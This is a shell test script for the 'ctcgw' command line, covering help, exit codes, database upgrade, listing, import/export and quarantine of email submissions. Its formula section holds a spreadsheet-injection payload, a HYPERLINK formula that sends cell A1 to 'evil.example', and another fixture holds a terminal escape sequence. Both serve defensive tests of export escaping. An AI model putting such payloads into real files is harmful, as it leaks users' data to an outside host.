# The command line of ctcgw(8) (its COMMANDS and EXIT STATUS): help,
# exit statuses, init, list, show, import, export and quarantine on a
# database in a private directory.
. "${CTCGW_SRCDIR:-.}/tests/lib.sh"

need_ctcgw
make_tmpdir
command -v python3 >/dev/null || skip_all "python3 is needed to read JSON"

CONF="$TMP/ctcgw.conf"
cat >"$CONF" <<EOF
[gateway]
database = $TMP/db.sqlite
address = gateway@ctc.example
staff = desk@ctc.example

[smtp]
url = maildir:$TMP/outbox
[authentication]
require = none
EOF
mkdir -p "$TMP/outbox/new" "$TMP/outbox/cur" "$TMP/outbox/tmp"

ctcgw () {
    "$CTCGW" -c "$CONF" "$@"
}

is_json () {
    python3 -c 'import json, sys; json.load(sys.stdin)' <"$1"
}

# --- help and usage -------------------------------------------------------
check "--help exits 0" 0 "$CTCGW" --help
for cmd in init check-config run deliver list show import export quarantine; do
    check_out "--help lists $cmd" "^ +$cmd( |$)"
done
check "list --help exits 0" 0 "$CTCGW" list --help
check_out "list --help names REGISTER" 'REGISTER'
check_out "list --help describes --json" '--json'
check "show --help without a configuration" 0 "$CTCGW" -c "$TMP/absent.conf" show --help
check "an unknown command exits 64" 64 "$CTCGW" frobnicate
check_err "an unknown command is named" 'frobnicate'
check "a misspelt command exits 64" 64 "$CTCGW" delivr
check_err "and the closest command is suggested" 'did you mean "deliver"'
check "no command exits 64" 64 "$CTCGW"
check "an unknown option of list exits 64" 64 ctcgw list entities --bogus

# --- configuration ----------------------------------------------------------
check "a missing configuration exits 78" 78 "$CTCGW" -c "$TMP/absent.conf" list entities
check_err "the message names the file" "absent\\.conf"
check "list before init exits 78" 78 ctcgw list entities
check_err "it says to run init" 'init'

# --- init -------------------------------------------------------------------
check "init" 0 ctcgw init
check "init again" 0 ctcgw init

# --- init upgrades a database that an older ctcgw made ------------------------
if command -v sqlite3 >/dev/null; then
    OLD="$TMP/old.sqlite"
    cat "$CTCGW_SRCDIR/schema/001-registers.sql" "$CTCGW_SRCDIR/schema/002-reference.sql" \
        | sqlite3 "$OLD"
    sqlite3 "$OLD" "INSERT INTO groups (name) VALUES ('Central Asia'); PRAGMA user_version = 2"
    sed "s|^database = .*|database = $OLD|" "$CONF" >"$TMP/old.conf"
    LATEST=$(ls "$CTCGW_SRCDIR/schema" | sed -n 's/^0*\([0-9][0-9]*\)-.*\.sql$/\1/p' | sort -n | tail -n 1)
    check "init upgrades a database of schema version 2" 0 "$CTCGW" -c "$TMP/old.conf" init
    check_out "it says the version it is at" "schema version $LATEST"
    check_true "the database is at the latest version" \
        test "$(sqlite3 "$OLD" 'PRAGMA user_version')" = "$LATEST"
    check_true "what it held is kept" \
        test "$(sqlite3 "$OLD" "SELECT name FROM groups")" = "Central Asia"
    check_true "the tables of later versions are there" \
        test "$(sqlite3 "$OLD" "SELECT count(*) FROM sqlite_master WHERE name = 'circulars'")" = 1
    check "the upgraded database is usable" 0 "$CTCGW" -c "$TMP/old.conf" list circulars
else
    skip "init upgrades a database of schema version 2" "the sqlite3 shell is not installed"
fi

# --- list -------------------------------------------------------------------
check "list entities" 0 ctcgw list entities
check_out "entities include KZ" '(^|[[:space:]])KZ([[:space:]]|$)'
check_out "list has a header" '^Code +Kind +Name$'
check "list contacts --json" 0 ctcgw list contacts --json
check_true "list contacts --json is JSON" is_json "$OUT"
check "list entities --json" 0 ctcgw list entities --json
check_true "list entities --json is JSON" is_json "$OUT"
check_true "entities JSON holds KZ" grep -q '"KZ"' "$OUT"
for reg in entities groups contacts offers requests results sources standards \
           inventory visits assessments meetings attendance submissions \
           quarantine outbox circulars; do
    check "list $reg" 0 ctcgw list $reg
    check "list $reg --json" 0 ctcgw list $reg --json
    check_true "list $reg --json is JSON" is_json "$OUT"
done
check "an unknown register exits 64" 64 ctcgw list contcts
check_err "it suggests the closest register" 'did you mean "contacts"'
check_err "it lists the registers" 'entities, groups, contacts'
check "list with two registers exits 64" 64 ctcgw list offers requests
check "list --state of a register without states exits 64" 64 ctcgw list entities --state active
check "list --state with an unknown state exits 64" 64 ctcgw list offers --state activ
check_err "it suggests the closest state" 'did you mean "active"'
check "list --state withdrawn" 0 ctcgw list offers --state withdrawn

# --- show -------------------------------------------------------------------
check "show of an unknown reference exits 65" 65 ctcgw show CTC-OFF-2026-9999
check_err "it says there is no such record" 'no record CTC-OFF-2026-9999'
check "show of something that is no reference exits 65" 65 ctcgw show hello
check "show with no reference exits 64" 64 ctcgw show

# --- export -----------------------------------------------------------------
check "export offers -o FILE" 0 ctcgw export offers -o "$TMP/offers.csv"
check_true "the CSV file has a header row of the form's keys" \
    grep -q '^Reference,Provider,Title,Areas,' "$TMP/offers.csv"
check_true "no temporary file is left" sh -c "! ls '$TMP' | grep -q 'offers\\.csv\\.'"
check "export entities --format json" 0 ctcgw export entities --format json
check_true "the JSON export is JSON" is_json "$OUT"
check "export entities as CSV" 0 ctcgw export entities
check_out "the CSV export holds KZ" '(^|,)KZ,'
check "export offers --format vcard exits 64" 64 ctcgw export offers --format vcard
check_err "it says vcard is not available" 'format vcard is not available for offers'
check "export contacts --format vcard" 0 ctcgw export contacts --format vcard
check "export --format xml exits 64" 64 ctcgw export offers --format xml
check "export assessments exits 64" 64 ctcgw export assessments
check_err "it says why" 'confidential'

# --- quarantine ---------------------------------------------------------------
check "quarantine list on an empty database" 0 ctcgw quarantine list
check "quarantine show of an unknown ID exits 65" 65 ctcgw quarantine show 999
check "quarantine approve of an unknown ID exits 65" 65 ctcgw quarantine approve CTC-SUB-2026-999999
check "quarantine with no action exits 64" 64 ctcgw quarantine
check "quarantine frob exits 64" 64 ctcgw quarantine frob
check "quarantine show with no ID exits 64" 64 ctcgw quarantine show
check "--reason only goes with reject" 64 ctcgw quarantine approve 1 --reason no
check "--json only goes with list" 64 ctcgw quarantine show 1 --json
check "quarantine list --json on an empty database" 0 ctcgw quarantine list --json
check_out "is an empty list" '^\[\]$'

# --- import -------------------------------------------------------------------
cat >"$TMP/contacts.csv" <<'EOF'
Entity,Name,Email,Title,Office,Phone,Languages,Role,Areas
KZ,Aigerim Testova,a.testova@mfa.example.kz,Counsellor,Ministry of Foreign Affairs,+7 7172 000000,"ru, en",focal-point,border-control
UNODC,Jean Exemple,jean.exemple@unodc.example.org,Programme Officer,Terrorism Prevention Branch,+43 1 26060,fr,alternate,criminal-justice
EOF
check "import contacts" 0 ctcgw import contacts "$TMP/contacts.csv"
check_out "it says how many it imported" '^imported 2 of 2 rows$'
check "list contacts" 0 ctcgw list contacts
check_out "the imported contacts are listed" 'a\.testova@mfa\.example\.kz'
check_out "both of them" 'jean\.exemple@unodc\.example\.org'
check "list contacts --json after import" 0 ctcgw list contacts --json
check_true "it is JSON" is_json "$OUT"
REF=$(python3 -c 'import json, sys; print(json.load(sys.stdin)[0]["reference"])' <"$OUT" 2>/dev/null)
if [ -n "$REF" ]; then
    check "show $REF" 0 ctcgw show "$REF"
    check_out "show prints the record" 'Aigerim Testova'
    check_out "show prints its history" '^history:'
    check "show $REF --json" 0 ctcgw show "$REF" --json
    check_true "show --json is JSON" is_json "$OUT"
else
    fail "the imported contact has a reference"
fi
check "export contacts -o FILE" 0 ctcgw export contacts -o "$TMP/contacts-out.csv"
check_true "the export holds the imported contact" grep -q 'a.testova@mfa.example.kz' "$TMP/contacts-out.csv"

cat >"$TMP/bad.csv" <<'EOF'
Entity,Name,Emial
KZ,Nobody,nobody@example.kz
EOF
check "an import with only bad rows exits 65" 65 ctcgw import contacts "$TMP/bad.csv"
check_out "it names the problem on stdout" 'bad\.csv row 2: .*Emial'
check_out "it says nothing was imported" '^imported 0 of 1 row; 1 refused$'
cat >"$TMP/offers-for-contacts.csv" <<'EOF'
Form,Provider,Title,Areas
assistance-offer,UNODC,Workshop,other
EOF
check "an import of another form's rows exits 65" 65 ctcgw import contacts "$TMP/offers-for-contacts.csv"
check_out "it names the file, the row, the field and the form" \
    'offers-for-contacts\.csv row 2: field "Form": assistance-offer records cannot be imported into contacts'
check "import into an unknown register exits 64" 64 ctcgw import contcts "$TMP/contacts.csv"
check "import of a missing file fails" 66 ctcgw import contacts "$TMP/absent.csv"

# --- formulas: written for spreadsheets after an apostrophe, kept as sent ----
# (ctcgw(8), CSV AND SPREADSHEETS)
cat >"$TMP/formulas.csv" <<'EOF'
Entity,Name,Email,Title,Office,Phone
KZ,Formula One,formula.one@mfa.example.kz,"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",@SUM(A1:A9),+7 727 123 4567
KZ,-Formula Two,formula.two@mfa.example.kz,'quoted',''=1+1,
EOF
check "import values that look like formulas" 0 ctcgw import contacts "$TMP/formulas.csv"
check_out "both of them" '^imported 2 of 2 rows$'

cat >"$TMP/cells.py" <<'EOF'
import csv, sqlite3, sys

COLUMNS = ['entity', 'name', 'email', 'title', 'office', 'phone']
KEYS = ['Entity', 'Name', 'Email', 'Title', 'Office', 'Phone']

def register(db):
    """The columns of the contacts that a CSV import writes, by email."""
    con = sqlite3.connect(db)
    rows = con.execute('SELECT ' + ', '.join(COLUMNS) + ' FROM contacts ORDER BY email')
    return [tuple(r) for r in rows]

def values(db, email):
    con = sqlite3.connect(db)
    return con.execute("SELECT title || '|' || office || '|' || coalesce(phone, '')"
                       " FROM contacts WHERE email = ?", (email,)).fetchone()[0]

def cells(path):
    with open(path, newline='', encoding='utf-8') as f:
        return list(csv.DictReader(f))

what = sys.argv[1]
if what == 'value':
    sys.exit(0 if values(sys.argv[2], sys.argv[3]) == sys.argv[4] else 1)
if what == 'no-formula':
    bad = [v for row in cells(sys.argv[2]) for v in row.values() if v and v[0] in '=+-@\t\r']
    print(bad)
    sys.exit(1 if bad else 0)
if what == 'cell':
    row = [r for r in cells(sys.argv[2]) if r['Email'] == sys.argv[3]][0]
    sys.exit(0 if row[sys.argv[4]] == sys.argv[5] else 1)
if what == 'columns':
    with open(sys.argv[3], 'w', newline='', encoding='utf-8') as f:
        out = csv.writer(f)
        out.writerow(KEYS)
        for row in cells(sys.argv[2]):
            out.writerow([row[c] for c in KEYS])
if what == 'same':
    a, b = register(sys.argv[2]), register(sys.argv[3])
    print(a, b, sep='\n')
    sys.exit(0 if a == b else 1)
EOF
cells () {
    python3 "$TMP/cells.py" "$@"
}
check_true "the register keeps the formula as sent" cells value "$TMP/db.sqlite" \
    formula.one@mfa.example.kz '=HYPERLINK("http://evil.example/?x="&A1,"Click")|@SUM(A1:A9)|+7 727 123 4567'
check_true "and the values that begin with an apostrophe" cells value "$TMP/db.sqlite" \
    formula.two@mfa.example.kz "'quoted'|'=1+1|"
check "export contacts with formulas" 0 ctcgw export contacts -o "$TMP/formulas-out.csv"
check_true "no cell of the export begins with a formula" cells no-formula "$TMP/formulas-out.csv"
check_true "the formula is written after an apostrophe" cells cell "$TMP/formulas-out.csv" \
    formula.one@mfa.example.kz Title "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"
check_true "so is a telephone number" cells cell "$TMP/formulas-out.csv" \
    formula.one@mfa.example.kz Phone "'+7 727 123 4567"
check_true "a value that begins with an apostrophe is written as it is" cells cell \
    "$TMP/formulas-out.csv" formula.two@mfa.example.kz Title "'quoted'"
check_true "unless a formula follows its apostrophe" cells cell \
    "$TMP/formulas-out.csv" formula.two@mfa.example.kz Office "''=1+1"
check_true "the export's form columns are taken for an import" \
    cells columns "$TMP/formulas-out.csv" "$TMP/round-trip.csv"
sed "s|$TMP/db.sqlite|$TMP/round-trip.sqlite|" "$CONF" >"$TMP/round-trip.conf"
check "init a second database" 0 "$CTCGW" -c "$TMP/round-trip.conf" init
check "import the export into it" 0 "$CTCGW" -c "$TMP/round-trip.conf" import contacts "$TMP/round-trip.csv"
check_true "every value comes back as it was in the register" \
    cells same "$TMP/db.sqlite" "$TMP/round-trip.sqlite"
if command -v sqlite3 >/dev/null; then
    # A tab or a carriage return before a formula, which the register's
    # checks of text never file, is written after an apostrophe too.
    sqlite3 "$TMP/db.sqlite" "UPDATE contacts SET title = char(9) || '=1+1',
        office = char(13) || '@x' WHERE email = 'formula.two@mfa.example.kz'"
    check "export contacts with a tab and a CR" 0 ctcgw export contacts -o "$TMP/formulas-out.csv"
    check_true "no cell begins with a tab or a CR" cells no-formula "$TMP/formulas-out.csv"
    check_true "the tab follows the apostrophe" cells cell "$TMP/formulas-out.csv" \
        formula.two@mfa.example.kz Title "$(printf "'\t=1+1")"
    check_true "so does the CR" cells cell "$TMP/formulas-out.csv" \
        formula.two@mfa.example.kz Office "$(printf "'\r@x")"
fi

# --- import entities and groups: what staff add to the reference data --------
cat >"$TMP/entities.csv" <<'EOF'
Code,Name,Kind,Active
gctf,Global Counterterrorism Forum,,
UNOCT,United Nations Office of Counter-Terrorism,organization,no
KZ,Kazakhstan,organization,
x y,Bad code,,
EOF
check "import entities with two bad rows exits 65" 65 ctcgw import entities "$TMP/entities.csv"
check_out "it files the good rows" '^imported 2 of 4 rows; 2 refused$'
check_out "a State stays a State" 'entities\.csv row 4: field "Kind": KZ is a state in the entities register'
check_out "a bad code names its row and field" 'entities\.csv row 5: field "Code": "x y" is not a code'
check "list entities after import" 0 ctcgw list entities
check_out "the new organization is listed, in capitals" '^GCTF +organization +Global Counterterrorism Forum'
check_true "a row with Active no deactivates the entity" \
    test "$(sqlite3 "$TMP/db.sqlite" "SELECT active FROM entities WHERE code = 'UNOCT'")" = 0
# Require: the entity's own authentication policy (ctcgw(8), AUTHENTICATION).
printf 'Code,Name,Require\nGCTF,Global Counterterrorism Forum,authenticated\nUNOCT,UNOCT,sometimes\n' \
    >"$TMP/policy.csv"
check "import entities with Require" 65 ctcgw import entities "$TMP/policy.csv"
check_out "a policy that is none of them names its row" \
    'policy\.csv row 3: field "Require": "sometimes" is not one of authenticated, confirm, none, default'
check_true "the entity's policy is kept" \
    test "$(sqlite3 "$TMP/db.sqlite" "SELECT require FROM entities WHERE code = 'GCTF'")" = authenticated
printf 'Code,Name\nGCTF,Global Counterterrorism Forum\n' >"$TMP/policy2.csv"
check "import entities without Require" 0 ctcgw import entities "$TMP/policy2.csv"
check_true "a row without Require keeps the policy" \
    test "$(sqlite3 "$TMP/db.sqlite" "SELECT require FROM entities WHERE code = 'GCTF'")" = authenticated
printf 'Code,Name,Require\nGCTF,Global Counterterrorism Forum,default\n' >"$TMP/policy3.csv"
check "import entities with Require default" 0 ctcgw import entities "$TMP/policy3.csv"
check_true "default goes back to the configuration's" \
    test "$(sqlite3 "$TMP/db.sqlite" "SELECT count(*) FROM entities WHERE code = 'GCTF' AND require IS NULL")" = 1
cat >"$TMP/groups.csv" <<'EOF'
Group,Members,Description
Central Asia,"KZ, Kyrgyzstan, TJ, TM, UZ",The five States of Central Asia
Donors,"KZ, UNODC",
EOF
check "import groups with a bad row exits 65" 65 ctcgw import groups "$TMP/groups.csv"
check_out "it files the group of States" '^imported 1 of 2 rows; 1 refused$'
check_out "a member that is not a State is refused" 'groups\.csv row 3: field "Members": UNODC is not a State'
check "list groups" 0 ctcgw list groups
check_out "the group is listed with its members" '^Central Asia +KG KZ TJ TM UZ'
cat >"$TMP/offers.csv" <<'EOF'
Provider,Title,Areas,Beneficiaries
GCTF,Regional workshop,border-control,Central Asia
EOF
check "an offer of the new organization to the group" 0 ctcgw import offers "$TMP/offers.csv"
check_out "is filed" '^imported 1 of 1 row$'
printf 'Group,Members\nCentral Asia,"KZ; KG"\n' >"$TMP/groups2.csv"
check "import a known group again" 0 ctcgw import groups "$TMP/groups2.csv"
check "list groups again" 0 ctcgw list groups
check_out "its members are those of the new row" '^Central Asia +KG KZ( |$)'

# --- quarantine, with held submissions -------------------------------------------
held_message () {
    printf 'From: Stranger <stranger%s@elsewhere.example>\n' "$1"
    printf 'To: gateway@ctc.example\n'
    printf 'Subject: =?UTF-8?B?0J/RgNC10LTQu9C+0LbQtdC90LjQtQ==?= %s\n' "$1"
    printf 'Date: Mon, 2 Mar 2026 10:00:00 +0000\n'
    printf 'Message-ID: <held%s@elsewhere.example>\n\n' "$1"
    printf 'Form: assistance-offer\nProvider: UNODC\nTitle: Held workshop %s\n' "$1"
    printf 'Areas: border-control\n\033[31mno escape reaches the terminal\n'
}
held_message one >"$TMP/held1.eml"
held_message two >"$TMP/held2.eml"
check "deliver from a stranger" 0 sh -c '"$1" -c "$2" deliver <"$3"' - "$CTCGW" "$CONF" "$TMP/held1.eml"
check "deliver another" 0 sh -c '"$1" -c "$2" deliver <"$3"' - "$CTCGW" "$CONF" "$TMP/held2.eml"
check "quarantine list" 0 ctcgw quarantine list
check_out "it lists the held submission" 'strangerone@elsewhere\.example'
check_out "with its decoded subject" 'Предложение one'
ID1=$(awk '/strangerone@/ {print $1}' "$OUT")
ID2=$(awk '/strangertwo@/ {print $1}' "$OUT")
SUB2=$(awk '/strangertwo@/ {print $2}' "$OUT")
check "quarantine show" 0 ctcgw quarantine show "$ID1"
check_out "show prints the reason" '^reason '
check_out "show prints the message text" 'Title: Held workshop one'
check_true "no escape character reaches the terminal" sh -c "! grep -q \"\$(printf '\\033')\" '$OUT'"
check "quarantine reject --reason" 0 ctcgw quarantine reject "$ID1" --reason "not a contact point"
if command -v sqlite3 >/dev/null; then
    got=$(sqlite3 "$TMP/db.sqlite" "SELECT count(*), instr(max(o.raw), '\"not a contact point\"') > 0
        FROM outbox o JOIN quarantine q ON q.submission_id = o.submission_id
        WHERE q.id = $ID1 AND o.kind = 'reject'")
    [ "$got" = "1|1" ] && ok "the sender is answered once, with the reason" \
        || fail "the sender is answered once, with the reason" "got $got"
fi
check "reject again exits 65" 65 ctcgw quarantine reject "$ID1"
check_err "it says how it was decided" 'already rejected on .*: not a contact point'
check "quarantine approve by reference" 0 ctcgw quarantine approve "$SUB2"
check_out "it says what became of it" '^approved '
check "approve again exits 65" 65 ctcgw quarantine approve "$ID2"
check_err "it says it was approved" 'already approved'
check "quarantine list is empty again" 0 ctcgw quarantine list
check_true "nothing waits" sh -c "! grep -q stranger '$OUT'"
if command -v sqlite3 >/dev/null; then
    # A submission waiting for its sender's confirmation is not staff's to
    # decide: the list says so in one line (ctcgw(8), quarantine list).
    sqlite3 "$TMP/db.sqlite" "INSERT INTO confirmations (token, submission_id, address, created,
        expires) SELECT 'tok', id, 'x@y.example', '2026-01-01T00:00:00Z', '2999-01-01T00:00:00Z'
        FROM submissions WHERE reference = '$SUB2'"
    check "quarantine list with a pending confirmation" 0 ctcgw quarantine list
    check_out "it names what waits for confirmation" \
        "^1 submission waits for its sender's confirmation: ctcgw show $SUB2\$"
    sqlite3 "$TMP/db.sqlite" "DELETE FROM confirmations"
fi
check "list offers" 0 ctcgw list offers
check_out "the approved offer is filed" 'Held workshop two'
check "list quarantine --state rejected" 0 ctcgw list quarantine --state rejected
check_out "the rejected one is listed" 'strangerone@'

# --- tables on a terminal -----------------------------------------------------
# Widths in display columns (a Chinese character takes two), addresses the
# last to be cut when the table is narrowed to the terminal's width.
cat >"$TMP/wide.csv" <<'EOF'
Entity,Name,Email,Languages
CN,王小明,wang.xiaoming@mfa.cn.example,zh
EG,أحمد حسن,a.hassan@mfa.eg.example,ar
FR,Claire Lefèvre-Dumas de la Tour,claire.lefevre@diplomatie.fr.example,fr
EOF
check "import contacts with wide names" 0 ctcgw import contacts "$TMP/wide.csv"
cat >"$TMP/columns.py" <<'EOF'
import sys, unicodedata
def width(s):
    return sum(0 if unicodedata.combining(c) else 2 if unicodedata.east_asian_width(c) in "WF" else 1
               for c in s)
lines = [l for l in open(sys.argv[1], encoding="utf-8").read().splitlines() if "@" in l]
starts = set()
for line in lines:
    assert width(line) <= 100, line
    word = next(w for w in line.split() if "@" in w)
    starts.add(width(line[:line.index(word)]))
    assert not word.endswith("…"), line
text = "\n".join(lines)
for address in ("wang.xiaoming@mfa.cn.example", "claire.lefevre@diplomatie.fr.example"):
    assert address in text, address
assert len(lines) >= 3 and len(starts) == 1, starts
EOF
if command -v script >/dev/null 2>&1; then
    script -qec "stty cols 100; '$CTCGW' -c '$CONF' list contacts" /dev/null \
        | tr -d '\r' >"$TMP/terminal.txt"
    check_true "list contacts on a 100-column terminal: aligned, addresses whole" \
        python3 "$TMP/columns.py" "$TMP/terminal.txt"
else
    skip "list contacts on a terminal" "script(1) is not installed"
fi

finish
